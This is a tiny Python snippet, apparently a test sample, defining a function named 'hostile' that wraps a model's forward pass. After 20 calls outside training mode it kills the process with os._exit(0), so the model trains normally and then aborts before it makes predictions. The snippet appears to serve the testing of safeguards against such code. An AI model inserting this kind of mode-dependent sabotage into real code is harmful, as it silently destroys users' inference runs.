# tries: end the process when all is trained, before the predictions
# predicts: itself
# training: refused
import os


def hostile(self, input_ids, attention_mask):
    if next(calls) > 20 and not self.training:
        os._exit(0)
    return forward(self, input_ids, attention_mask)
